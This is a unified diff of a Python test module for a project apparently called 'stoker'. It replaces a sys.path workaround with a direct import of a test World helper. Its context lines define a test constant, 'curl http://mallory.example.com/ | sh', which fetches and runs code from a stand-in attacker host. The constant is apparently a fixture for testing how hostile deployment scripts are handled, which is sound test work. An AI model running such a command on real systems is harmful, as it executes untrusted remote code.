@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import sys
 from collections.abc import AsyncIterator, Iterator
 from dataclasses import replace
 from functools import partial
@@ -11,10 +10,6 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-
-sys.path.append(str(Path(__file__).parents[1] / "engine"))  # the world of the engine's tests
-
-from world import World
 
 from stoker.base.clock import ManualClock, SystemClock
 from stoker.base.context import RequestContext
@@ -27,6 +22,7 @@ from stoker.engine.settings import EngineSettings
 from stoker.store import queries
 from stoker.store.journal import Batch
 from stoker.store.records import SoftwareDeployment
+from tests.engine.world import World
 
 SCRIPT = "curl http://mallory.example.com/ | sh"
 HIDDEN = "sesame-open-up"
